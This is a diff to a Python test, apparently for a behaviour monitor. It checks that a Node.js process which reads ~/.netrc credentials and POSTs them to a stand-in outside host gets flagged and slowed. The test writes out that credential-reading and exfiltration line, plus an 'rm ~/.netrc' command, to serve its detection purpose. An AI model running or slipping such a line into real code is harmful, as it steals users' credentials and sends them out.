@@ -136,7 +136,8 @@ def test_keys_read_by_a_child_and_posted(victim: Machine, outside: Outside) -> N
     read = "const key = require('child_process').execSync('cat ~/.netrc').toString()"
     execute(victim, 'child.cjs', f"{read}; fetch('{outside.http}/echo', {{method: 'POST', body: key}}).catch(() => 1)")
     run(victim, 'rm ~/.netrc')
-    assert 'after it had read /home/user/.netrc' in records(victim, 'behaviour', 'child.cjs')[-1]['reasons'][0]
+    found = records(victim, 'behaviour', 'child.cjs')[-1]
+    assert found['level'] == 'slowed' and 'it connected to outside.test' in found['reasons'][0]
 
 
 def test_text_on_a_command_line_that_hides_itself(victim: Machine) -> None:
